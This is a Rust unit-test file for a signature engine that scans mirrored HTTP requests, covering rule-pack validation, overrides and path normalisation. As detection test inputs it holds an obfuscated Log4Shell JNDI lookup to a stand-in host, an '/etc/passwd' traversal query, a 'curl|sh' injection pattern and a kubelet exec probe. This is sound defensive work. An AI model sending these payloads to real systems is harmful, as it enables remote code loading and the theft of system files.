//! Unit tests of the pack format, its layering and the rule engine.

use super::pack::{Pack, BUILTIN_PACK};
use super::RequestView;
use crate::headers::HeaderBlock;
use crate::mirror::MirrorPolicy;
use serde_json::Value;
#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

const TARGET: &str = r#""targets":{"ids":{"cluster":"s","delivery":"header"}}"#;

fn policy(signatures: &str) -> MirrorPolicy {
    MirrorPolicy::from_json(format!(r#"{{{TARGET},"signatures":{signatures}}}"#).as_bytes())
        .unwrap_or_else(|e| panic!("{e}"))
}

fn error(signatures: &str) -> String {
    MirrorPolicy::from_json(format!(r#"{{{TARGET},"signatures":{signatures}}}"#).as_bytes())
        .map(|_| ())
        .unwrap_err()
        .to_string()
}

/// Rule ids the policy's signatures find in a request given as one JSON object
/// (`{"method", "path", "headers": [[name, value]], "body"}`, method `GET` by default), scanned
/// as the mirror scans: the head, then the body when a rule wants it.
fn rules_hit(p: &MirrorPolicy, json: &str) -> Vec<String> {
    let r: Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{json}: {e}"));
    let text = |v: &Value| v.as_str().unwrap_or_default().to_string();
    let mut headers: Vec<(String, String)> = r["headers"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|h| (text(&h[0]).to_ascii_lowercase(), text(&h[1])))
        .collect();
    headers.push((":authority".into(), "localhost".into()));
    let headers = HeaderBlock::from(headers);
    let view = RequestView {
        method: r["method"].as_str().unwrap_or("GET"),
        path: r["path"].as_str().unwrap_or_default(),
        headers: &headers,
    };
    let set = p.signature_set();
    let mut hits = set.new_hits();
    set.scan_head(&view, &mut hits);
    let body = text(&r["body"]);
    if !hits.any() && !body.is_empty() && set.wants_body(&view) {
        set.scan_body(&view, body.as_bytes(), &mut hits);
    }
    set.hit_rule_ids(&hits)
}

#[test]
fn the_builtin_pack_is_valid_and_every_rule_has_references() {
    let pack = Pack::builtin().unwrap_or_else(|e| panic!("{e}"));
    assert!(pack.rules.len() >= 20);
    for r in &pack.rules {
        assert!(!r.references.is_empty(), "{} has no reference", r.id);
        assert!(r.id.starts_with("ms-"), "{}", r.id);
    }
    assert!(BUILTIN_PACK.contains(r#""pack":"meshsight-builtin""#));
}

#[test]
fn a_bad_pack_is_refused_with_its_json_path() {
    let rule = |m: &str| {
        format!(
            r#"{{"packs":[{{"pack":"p","rules":[{{"id":"a","name":"a","category":"c","severity":"high","in":["path"],{m}}}]}}]}}"#
        )
    };
    for (sig, want) in [
        (rule(r#""match":{"any":[""]}"#), "signatures.packs[0].rules[0].match.any[0]: must not be empty"),
        (rule(r#""match":{}"#), "signatures.packs[0].rules[0].match: needs `any` or `all` literals"),
        (rule(r#""match":{"all":[[]]}"#), "signatures.packs[0].rules[0].match.all[0]: must not be empty"),
        (rule(r#""match":{"any":["x"]},"severity2":1"#), "signatures.packs[0].rules[0].severity2: unknown field"),
        (rule(r#""match":{"any":["x"]},"params":["q"]"#), "signatures.packs[0].rules[0].params: needs"),
        (rule(r#""match":{"all":[["x"]],"anchor":"start"}"#), "signatures.packs[0].rules[0].match.anchor: applies to `any`"),
        (rule(r#""match":{"any":["x"]},"transforms":["rot13"]"#), "signatures.packs[0].rules[0].transforms[0]: unknown variant"),
        (rule(r#""match":{"any":["x"]},"when":{"methods":["GE T"]}"#), "signatures.packs[0].rules[0].when.methods[0]: \"GE T\" is not a method token"),
        (r#"{"rules":{"ms-nope":false}}"#.to_string(), "signatures.rules.ms-nope: unknown rule id"),
        (r#"{"categories":{"nope":false}}"#.to_string(), "signatures.categories.nope: unknown category"),
        (r#"{"packs":[{"pack":"p","rules":[{"id":"a b","name":"a","category":"c","severity":"high","in":["path"],"match":{"any":["x"]}}]}]}"#.to_string(), "signatures.packs[0].rules[0].id: rule ids are"),
    ] {
        let got = error(&sig);
        assert!(got.starts_with(want), "want {want:?}, got {got:?}");
    }
}

#[test]
fn packs_add_override_and_switch_off_rules() {
    let p = policy(
        r#"{"packs":[{"pack":"soc","rules":[
            {"id":"soc-acme","name":"acme","category":"acme","severity":"high","in":["headers"],
             "headers":["x-acme-debug"],"match":{"any":["enable"]}},
            {"id":"ms-traversal-sensitive-file","name":"files","category":"path_traversal",
             "severity":"high","in":["path","query"],"match":{"any":["/etc/passwd"]}}]}],
           "rules":{"ms-kubelet-exec-route":false}}"#,
    );
    assert_eq!(
        rules_hit(
            &p,
            r#"{"path":"/a","headers":[["x-acme-debug","enable=1"]]}"#
        ),
        ["soc-acme"]
    );
    assert!(rules_hit(&p, r#"{"path":"/a","headers":[["x-other","enable=1"]]}"#).is_empty());
    assert_eq!(
        rules_hit(&p, r#"{"path":"/x?f=/etc/passwd"}"#),
        ["ms-traversal-sensitive-file"]
    );
    assert!(rules_hit(&p, r#"{"path":"/download?file=win.ini"}"#).is_empty());
    assert!(rules_hit(
        &p,
        r#"{"method":"POST","path":"/run/default/web/web?cmd=id"}"#
    )
    .is_empty());
    assert_eq!(
        rules_hit(
            &p,
            r#"{"path":"/a","headers":[["user-agent","${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/a}"]]}"#
        ),
        ["ms-log4shell-jndi", "ms-log4shell-lookup-protocol"]
    );
    let ids = p.signature_rule_ids();
    assert!(ids.iter().any(|i| i == "soc-acme"));
    assert!(!ids.iter().any(|i| i == "ms-kubelet-exec-route"));
    // The built-in pack can be left out entirely.
    let only = policy(r#"{"builtin":false,"custom":[{"name":"c","literal":"zzz"}]}"#);
    assert_eq!(only.signature_rule_ids(), ["c"]);
}

#[test]
fn conditions_anchor_case_and_veto() {
    let p = policy(
        r##"{"builtin":false,"packs":[{"pack":"t","rules":[
            {"id":"case","name":"n","category":"c","severity":"low","in":["headers"],
             "transforms":["percent_decode"],"match":{"any":["X-Secret"]}},
            {"id":"veto","name":"n","category":"c","severity":"low","in":["query"],
             "match":{"all":[["curl"],["|sh"]],"none":["#safe"]}},
            {"id":"when","name":"n","category":"c","severity":"low","in":["params"],"params":["q"],
             "when":{"methods":["POST"],"path_suffix":[".do"]},"match":{"any":["evil"]}}]}]}"##,
    );
    assert_eq!(
        rules_hit(&p, r#"{"path":"/","headers":[["h","X-Secret"]]}"#),
        ["case"]
    );
    assert!(rules_hit(&p, r#"{"path":"/","headers":[["h","x-secret"]]}"#).is_empty());
    assert_eq!(rules_hit(&p, r#"{"path":"/?a=curl+x|sh+y"}"#), ["veto"]);
    assert!(rules_hit(&p, r#"{"path":"/?a=curl+x|sh+y%23safe"}"#).is_empty());
    assert_eq!(
        rules_hit(&p, r#"{"method":"POST","path":"/a/b.do;x=1?q=evil"}"#),
        ["when"]
    );
    assert!(rules_hit(&p, r#"{"method":"GET","path":"/a/b.do?q=evil"}"#).is_empty());
    assert!(rules_hit(&p, r#"{"method":"POST","path":"/a/b.do?other=evil"}"#).is_empty());
    assert_eq!(
        rules_hit(
            &p,
            r#"{"method":"POST","path":"/b.do","headers":[["content-type","application/json"]],"body":"{\"q\":\"evil\"}"}"#
        ),
        ["when"]
    );
}

#[test]
fn a_thousand_custom_rules_compile_and_do_not_fire_on_plain_traffic() {
    let rules: Vec<String> = (0..1000)
        .map(|i| {
            format!(
                r#"{{"id":"c{i}","name":"c","category":"custom","severity":"low","in":["path","query","headers","body"],"match":{{"any":["zz-indicator-{i}-x"]}}}}"#
            )
        })
        .collect();
    let p = policy(&format!(
        r#"{{"packs":[{{"pack":"big","rules":[{}]}}]}}"#,
        rules.join(",")
    ));
    assert!(p.signature_rule_ids().len() > 1000);
    assert!(rules_hit(
        &p,
        r#"{"path":"/api/orders?page=2","headers":[["user-agent","Mozilla/5.0"]]}"#
    )
    .is_empty());
    assert_eq!(
        rules_hit(&p, r#"{"path":"/a?q=ZZ-INDICATOR-999-X"}"#),
        ["c999"]
    );
}

#[test]
fn built_in_packs_are_compiled_in_minified_and_unchanged() {
    for (compiled, source) in [
        (BUILTIN_PACK, include_str!("builtin.json")),
        (
            crate::response::BUILTIN_RESPONSE_PACK,
            include_str!("../../response/builtin.json"),
        ),
    ] {
        let compiled_doc: Value = serde_json::from_str(compiled).unwrap();
        let source_doc: Value = serde_json::from_str(source).unwrap();
        assert_eq!(compiled_doc, source_doc);
        assert!(!compiled.contains('\n') && compiled.len() < source.len());
        // Whitespace inside strings is kept: a rule literal may be `" ${"` or end in a space.
        assert_eq!(
            compiled.matches(' ').count(),
            serde_json::to_string(&source_doc)
                .unwrap()
                .matches(' ')
                .count()
        );
    }
}

/// `path_contains` is found by byte windows (not `str::contains`): anywhere in the path, at
/// either end, not across a near miss, and an empty fragment holds as `contains("")` does.
#[test]
fn when_path_contains_finds_a_fragment_anywhere_in_the_path() {
    let when = |fragments: &[&str]| super::pack::When {
        path_contains: fragments.iter().map(|f| f.to_string()).collect(),
        ..Default::default()
    };
    let token = when(&["/msi/token", "/oauth2/token"]);
    for path in [
        "/msi/token",
        "/a/msi/token?x",
        "/x/oauth2/token",
        "/oauth2/token/",
    ] {
        assert!(token.holds("GET", path), "{path}");
    }
    for path in [
        "/",
        "/msi/toke",
        "/msi//token",
        "/MSI/token",
        "msi/token",
        "",
    ] {
        assert!(!token.holds("GET", path), "{path}");
    }
    assert!(when(&[""]).holds("GET", "/anything"));
    // A fragment longer than the path.
    assert!(!when(&["/a/very/long/fragment"]).holds("GET", "/a"));
}

#[test]
fn a_normal_path_is_one_normalize_path_gives_back_unchanged() {
    use crate::mirror::decode::normalize_path;
    const ALPHABET: &[u8] = b"/\\.;ab";
    let mut paths = vec![Vec::new()];
    let mut last = vec![Vec::new()];
    for _ in 0..6 {
        let next: Vec<Vec<u8>> = last
            .iter()
            .flat_map(|p: &Vec<u8>| {
                ALPHABET.iter().map(move |b| {
                    let mut q = p.clone();
                    q.push(*b);
                    q
                })
            })
            .collect();
        paths.extend(next.iter().cloned());
        last = next;
    }
    for path in paths {
        assert_eq!(
            super::is_normal_path(&path),
            normalize_path(&path) == path,
            "{}",
            String::from_utf8_lossy(&path)
        );
    }
}
